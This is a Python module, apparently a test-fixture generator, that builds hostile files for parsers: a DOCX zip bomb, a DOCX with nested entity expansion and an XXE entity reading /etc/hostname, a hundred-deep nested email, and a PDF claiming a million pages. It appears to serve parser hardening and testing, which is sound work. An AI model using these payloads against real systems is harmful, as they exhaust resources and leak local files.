"""Files that are made to hinder whoever opens them."""

from avgkit.synthetic.papers import zipped

_WORD = "http://schemas.openxmlformats.org/wordprocessingml/2006/main"


def zip_bomb(megabytes: int = 64) -> bytes:
    """A letter of which the text is packed more than a thousand times smaller than it is."""
    text = f'<w:document xmlns:w="{_WORD}"><w:body><w:p><w:t>'.encode() + b" " * (megabytes << 20) + b"</w:t></w:p>"
    return zipped([("word/document.xml", text + b"</w:body></w:document>")])


def doctype_docx() -> bytes:
    """A letter that defines words that hold each other, and one that should be fetched from the machine."""
    entities = '<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;&a;&a;&a;"><!ENTITY f SYSTEM "file:///etc/hostname">'
    text = f'<!DOCTYPE d [{entities}]><w:document xmlns:w="{_WORD}"><w:p><w:t>&b;&f;</w:t></w:p></w:document>'
    return zipped([("word/document.xml", text)])


def nested_mail(deep: int = 100) -> bytes:
    """A message in a message in a message."""
    made = b"From: a@b.example\r\nSubject: kern\r\n\r\nhet diepst\r\n"
    for number in range(deep):
        edge = f"rand{number}"
        made = (
            (
                f"From: a@b.example\r\nSubject: laag {number}\r\nContent-Type: multipart/mixed; boundary={edge}\r\n\r\n"
                f"--{edge}\r\nContent-Type: text/plain\r\n\r\ntekst {number}\r\n--{edge}\r\n"
                "Content-Type: message/rfc822\r\n\r\n"
            ).encode()
            + made
            + f"\r\n--{edge}--\r\n".encode()
        )
    return made


def million_pages() -> bytes:
    """A PDF of one page that says it has a million, and lists them by pointing in a tree to the same few places."""
    levels = 6
    objects = [b"<< /Type /Catalog /Pages 2 0 R >>"]
    for level in range(levels):
        kids = b" ".join(b"%d 0 R" % (level + 3) for _ in range(10))
        objects.append(b"<< /Type /Pages /Count %d /Kids [%s] >>" % (10 ** (levels - level), kids))
    objects.append(b"<< /Type /Page /MediaBox [0 0 9 9] >>")
    made, places = bytearray(b"%PDF-1.4\n"), []
    for number, one in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%s\nendobj\n" % (number, one)
    start = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1) + b"".join(
        b"%010d 00000 n \n" % p for p in places
    )
    return bytes(made + b"trailer\n<< /Size %d /Root 1 0 R >>\nstartxref\n%d\n%%%%EOF" % (len(objects) + 1, start))
